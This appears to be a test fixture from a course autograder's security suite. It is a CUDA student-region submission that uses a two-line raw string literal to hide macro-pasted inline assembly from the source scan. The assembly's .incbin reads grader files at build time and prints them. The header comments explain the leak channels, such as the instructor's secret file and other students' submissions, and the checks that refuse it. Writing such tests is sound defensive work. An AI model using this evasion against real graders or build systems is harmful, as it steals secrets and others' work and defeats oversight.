// Attack (Lab 01, twelfth round, against the audit's reading of the preprocessed source,
// region_code_in_preprocessed):
// inline assembly in a region, hidden by a raw string literal that spans two lines. The region rules
// refuse the identifiers asm/__asm/__asm__ but do not expand macros: glibc's __CONCAT(__as, m__) (as in
// attack8_pasted_asm_shuffle) pastes __asm__, which the preprocessed source (.ii) shows on the region's
// line. The .ii scan reads a line at a time: a raw string R"x( whose )x" is on the next line is skipped
// to the end of its first line only, and on the next line the scan takes the raw string's closing quote
// for the opening quote of an ordinary string literal, which it ends at the next '"' on the line: the
// opening quote of the asm's template. Everything between, `; __asm__ volatile(`, is "inside a string"
// for the scan and code for the compiler. The region rules' lexer reads the raw string correctly (it
// spans lines there too) and sees only __CONCAT.
// What the assembly does: at BUILD time, GNU as's .incbin copies a file the grading user can read into
// the lab's object (here the first 2000 bytes of the grader's CMakeCache.txt, by a path relative to the
// compiler's working directory, build/autograder/labs/01-sum-reduction); at run time the launcher prints
// it. The build runs unconfined (the confinement starts with the launch host), so the same line reads
// the instructor's --secret-file (from which the hidden sizes and all inputs are keyed), other
// students' submissions left in build/graded/labNN_slotK/, or anything else the grading user can read.
// Out of the process: printf, or bytes written into the output as floats (the wrong_result message shows
// the first mismatched values). A missing path fails the build (one bit a submission); .include instead
// of .incbin puts the file's first line into the build log ("Error: no such instruction: `...'").
// What catches it: the region rules, refusing a raw string literal that holds a line end; and the .ii
// scan, which carries a raw string still open at the end of a line on to the following lines (either one
// alone refuses it). Expected: refused_region.

    // BEGIN STUDENT REGION launch
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    // Once a process: print what the assembler read into this object when the lab was built.
    static bool shown = false;
    const char* leaked = nullptr;
    const char* const note = R"x(
)x"; __CONCAT(__as, m__) volatile(".pushsection .rodata.notes, \"a\"\n9: .incbin \"../../../CMakeCache.txt\", 0, 2000\n .byte 0\n .popsection\n lea 9b(%%rip), %0" : "=r"(leaked));
    if (!shown && note[0] == '\n') printf("%s\n", leaked);
    shown = true;
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    // END STUDENT REGION
